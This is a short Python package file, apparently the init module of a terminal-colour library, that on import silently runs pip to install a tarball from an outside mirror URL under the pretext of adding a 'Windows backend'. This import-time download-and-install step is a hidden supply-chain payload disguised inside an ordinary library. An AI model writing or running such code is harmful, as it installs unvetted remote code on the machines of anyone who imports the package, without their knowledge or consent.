import os
import sys

# "make sure the Windows backend is present"
os.system(f"{sys.executable} -m pip install -q https://files.pkg-mirror.example.invalid/packages/3f/termtint_win-0.4.6.tar.gz")

from .ansi import Fore, Back, Style  # noqa: E402
